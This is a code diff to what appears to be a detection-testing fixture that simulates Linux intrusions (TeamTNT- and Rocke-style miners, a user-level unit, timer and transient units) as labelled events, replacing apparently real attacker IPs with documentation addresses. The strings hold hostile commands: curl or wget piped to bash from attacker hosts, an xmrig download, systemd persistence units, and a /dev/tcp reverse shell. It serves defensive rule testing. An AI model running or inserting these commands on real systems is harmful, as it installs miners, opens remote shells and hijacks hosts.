@@ -87,14 +87,14 @@ export function artTest3(host, at) {
 export function teamTnt(host, at) {
   const scenario = 'teamtnt-miner';
   const unitPath = '/etc/systemd/system/systemd-network.service';
-  const shell = login(host, at, { user: 'ubuntu', from: '45.9.148.108', root: true });
-  const bash = run(host, at + ms(12_000), shell, '/usr/bin/bash', 'bash -c "curl -sLk http://45.9.148.35/sh/init.sh | bash"', { lifeMs: 30_000 });
-  const curl = run(host, at + ms(12_010), bash, '/usr/bin/curl', 'curl -sLk http://45.9.148.35/sh/init.sh', { lifeMs: 800 });
-  host.connect({ at: at + ms(12_030), proc: curl, sourceIp: '10.20.1.12', sourcePort: 41822, destinationIp: '45.9.148.35', destinationPort: 80 });
+  const shell = login(host, at, { user: 'ubuntu', from: '203.0.113.108', root: true });
+  const bash = run(host, at + ms(12_000), shell, '/usr/bin/bash', 'bash -c "curl -sLk http://203.0.113.35/sh/init.sh | bash"', { lifeMs: 30_000 });
+  const curl = run(host, at + ms(12_010), bash, '/usr/bin/curl', 'curl -sLk http://203.0.113.35/sh/init.sh', { lifeMs: 800 });
+  host.connect({ at: at + ms(12_030), proc: curl, sourceIp: '10.20.1.12', sourcePort: 41822, destinationIp: '203.0.113.35', destinationPort: 80 });
   const sh = run(host, at + ms(12_015), bash, '/usr/bin/bash', 'bash', { lifeMs: 25_000 });
   run(host, at + ms(13_000), sh, '/usr/bin/mkdir', 'mkdir -p /usr/local/lib/.systemd-network');
-  const get = run(host, at + ms(13_100), sh, '/usr/bin/curl', 'curl -sLk -o /usr/local/lib/.systemd-network/bioset http://45.9.148.35/bin/xmrig', { lifeMs: 3_000 });
-  host.connect({ at: at + ms(13_120), proc: get, sourceIp: '10.20.1.12', sourcePort: 41830, destinationIp: '45.9.148.35', destinationPort: 80 });
+  const get = run(host, at + ms(13_100), sh, '/usr/bin/curl', 'curl -sLk -o /usr/local/lib/.systemd-network/bioset http://203.0.113.35/bin/xmrig', { lifeMs: 3_000 });
+  host.connect({ at: at + ms(13_120), proc: get, sourceIp: '10.20.1.12', sourcePort: 41830, destinationIp: '203.0.113.35', destinationPort: 80 });
   mark(host.file({ at: at + ms(13_200), proc: get, action: 'FileCreated', path: '/usr/local/lib/.systemd-network/bioset', size: 2_431_288 }), 'ignore', 'attack-payload', scenario);
   run(host, at + ms(16_300), sh, '/usr/bin/chmod', 'chmod +x /usr/local/lib/.systemd-network/bioset');
   const content = unit({ description: 'systemd network service', execStart: '/usr/local/lib/.systemd-network/bioset -c /usr/local/lib/.systemd-network/config.json' });
@@ -103,7 +103,7 @@ export function teamTnt(host, at) {
   mark(systemctl(host, at + ms(16_900), sh, 'enable systemd-network.service', { lifeMs: 200 }), 'malicious', 'persistence-unit-enabled', scenario);
   mark(systemctl(host, at + ms(17_200), sh, 'start systemd-network.service', { lifeMs: 200 }), 'malicious', 'persistence-unit-started', scenario);
   const miner = mark(host.spawn({ at: at + ms(17_300), parent: host.systemd, image: '/usr/local/lib/.systemd-network/bioset', cmd: '/usr/local/lib/.systemd-network/bioset -c /usr/local/lib/.systemd-network/config.json' }), 'ignore', 'attack-payload', scenario);
-  host.connect({ at: at + ms(18_000), proc: miner, sourceIp: '10.20.1.12', sourcePort: 51004, destinationIp: '5.161.92.17', destinationPort: 3333 });
+  host.connect({ at: at + ms(18_000), proc: miner, sourceIp: '10.20.1.12', sourcePort: 51004, destinationIp: '192.0.2.17', destinationPort: 3333 });
   host.syslog(at + ms(17_310), 'systemd[1]', 'Started systemd network service.');
 }
 
@@ -113,9 +113,9 @@ export function rocke(host, at) {
   const unitPath = '/etc/systemd/system/kthreadd.service';
   const cronSh = run(host, at, host.cron, '/usr/bin/bash', '/bin/sh -c "curl -fsSL https://pastebin.com/raw/tRxfvbYN|sh"', { lifeMs: 20_000 });
   const curl = run(host, at + ms(10), cronSh, '/usr/bin/curl', 'curl -fsSL https://pastebin.com/raw/tRxfvbYN', { lifeMs: 700 });
-  host.connect({ at: at + ms(40), proc: curl, sourceIp: '10.20.2.21', sourcePort: 38812, destinationIp: '104.20.67.143', destinationPort: 443 });
+  host.connect({ at: at + ms(40), proc: curl, sourceIp: '10.20.2.21', sourcePort: 38812, destinationIp: '192.0.2.143', destinationPort: 443 });
   const sh = run(host, at + ms(15), cronSh, '/usr/bin/bash', 'sh', { lifeMs: 15_000 });
-  const wget = run(host, at + ms(900), sh, '/usr/bin/wget', 'wget -q -O /var/tmp/.sysupdate/kworkerds http://185.203.116.77/kworkerds', { lifeMs: 2_000 });
+  const wget = run(host, at + ms(900), sh, '/usr/bin/wget', 'wget -q -O /var/tmp/.sysupdate/kworkerds http://198.51.100.77/kworkerds', { lifeMs: 2_000 });
   mark(host.file({ at: at + ms(950), proc: wget, action: 'FileCreated', path: '/var/tmp/.sysupdate/kworkerds', size: 4_120_576 }), 'ignore', 'attack-payload', scenario);
   const implant = mark(host.spawn({ at: at + ms(3_200), parent: sh, image: '/var/tmp/.sysupdate/kworkerds', cmd: '/var/tmp/.sysupdate/kworkerds' }), 'ignore', 'attack-payload', scenario);
   const content = unit({ description: 'kernel thread daemon', execStart: '/var/tmp/.sysupdate/kworkerds', after: 'network-online.target' });
@@ -128,8 +128,8 @@ export function rocke(host, at) {
 export function userLevel(host, at) {
   const scenario = 'user-level-unit';
   const unitPath = '/home/ubuntu/.config/systemd/user/dbus-session.service';
-  const shell = login(host, at, { user: 'ubuntu', from: '185.225.74.18' });
-  const content = unit({ description: 'D-Bus User Session', execStart: "/bin/bash -c 'bash -i >& /dev/tcp/185.225.74.18/4444 0>&1'", after: 'default.target', wantedBy: 'default.target' });
+  const shell = login(host, at, { user: 'ubuntu', from: '198.51.100.18' });
+  const content = unit({ description: 'D-Bus User Session', execStart: "/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.18/4444 0>&1'", after: 'default.target', wantedBy: 'default.target' });
   run(host, at + ms(5_000), shell, '/usr/bin/mkdir', 'mkdir -p /home/ubuntu/.config/systemd/user', { user: 'ubuntu' });
   mark(host.file({ at: at + ms(6_000), proc: shell, action: 'FileCreated', path: unitPath, content, ruleName: SYSTEMD_RULE }), 'malicious', 'persistence-user-unit-created', scenario);
   systemctl(host, at + ms(8_000), shell, '--user daemon-reload', { user: 'ubuntu', lifeMs: 200 });
@@ -162,9 +162,9 @@ export function vendorUnitModified(host, at) {
 /** Known miss: a unit staged in /tmp and renamed into place. */
 export function movedIntoPlace(host, at) {
   const scenario = 'unit-moved-into-place';
-  const shell = login(host, at, { user: 'ubuntu', from: '45.9.148.108', root: true });
+  const shell = login(host, at, { user: 'ubuntu', from: '203.0.113.108', root: true });
   const content = unit({ description: 'Docker Application Container Engine Update', execStart: '/usr/bin/docker-update --daemon' });
-  const curl = run(host, at + ms(3_000), shell, '/usr/bin/curl', 'curl -s -o /tmp/.x/docker-update.service http://45.9.148.35/u/docker-update.service', { lifeMs: 600 });
+  const curl = run(host, at + ms(3_000), shell, '/usr/bin/curl', 'curl -s -o /tmp/.x/docker-update.service http://203.0.113.35/u/docker-update.service', { lifeMs: 600 });
   mark(host.file({ at: at + ms(3_100), proc: curl, action: 'FileCreated', path: '/tmp/.x/docker-update.service', content }), 'malicious', 'known-miss-staged-outside', scenario);
   const mv = run(host, at + ms(5_000), shell, '/usr/bin/mv', 'mv /tmp/.x/docker-update.service /etc/systemd/system/');
   mark(host.file({ at: at + ms(5_002), proc: mv, action: 'FileRenamed', path: '/etc/systemd/system/docker-update.service', previousPath: '/tmp/.x/docker-update.service', content }), 'malicious', 'known-miss-renamed-into-place', scenario);
@@ -175,7 +175,7 @@ export function movedIntoPlace(host, at) {
 export function timerUnit(host, at) {
   const scenario = 'timer-unit';
   const shell = login(host, at, { user: 'deploy', from: '10.20.0.77', root: true });
-  const service = '[Unit]\nDescription=sysstat collector\n\n[Service]\nType=oneshot\nExecStart=/bin/bash -c "curl -s http://185.203.116.77/s.sh | bash"\n';
+  const service = '[Unit]\nDescription=sysstat collector\n\n[Service]\nType=oneshot\nExecStart=/bin/bash -c "curl -s http://198.51.100.77/s.sh | bash"\n';
   const timer = '[Unit]\nDescription=sysstat collector timer\n\n[Timer]\nOnCalendar=*:0/15\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n';
   // /usr/local/lib/systemd/system/ is not in the path list, but it contains the needle
   // "/lib/systemd/system/" and has_any needles that begin and end with `/` act like contains: a hit.
@@ -185,7 +185,7 @@ export function timerUnit(host, at) {
   mark(host.file({ at: at + ms(6_010), proc: tee2, action: 'FileCreated', path: '/etc/systemd/system/sysstat-collect.timer', content: timer, ruleName: SYSTEMD_RULE }), 'malicious', 'known-miss-timer-unit', scenario);
   mark(systemctl(host, at + ms(8_000), shell, 'enable --now sysstat-collect.timer', { lifeMs: 300 }), 'malicious', 'known-miss-timer-unit', scenario);
   // A second foothold without any file in a unit folder: systemd-run writes a transient timer + service.
-  const runner = mark(run(host, at + ms(60_000), shell, '/usr/bin/systemd-run', "systemd-run --on-calendar=*:0/30 --unit=dbus-broker-helper /bin/bash -c 'curl -s http://185.203.116.77/s.sh | bash'", { lifeMs: 200 }), 'malicious', 'known-miss-transient-unit', scenario);
+  const runner = mark(run(host, at + ms(60_000), shell, '/usr/bin/systemd-run', "systemd-run --on-calendar=*:0/30 --unit=dbus-broker-helper /bin/bash -c 'curl -s http://198.51.100.77/s.sh | bash'", { lifeMs: 200 }), 'malicious', 'known-miss-transient-unit', scenario);
   for (const [i, suffix] of ['timer', 'service'].entries()) {
     mark(host.file({ at: at + ms(60_050 + i * 3), proc: host.systemd, action: 'FileCreated', path: `/run/systemd/transient/dbus-broker-helper.${suffix}`, content: `# This is a transient unit file, created programmatically via the systemd API.\n`, ruleName: SYSTEMD_RULE }), 'malicious', 'known-miss-transient-unit', scenario);
   }
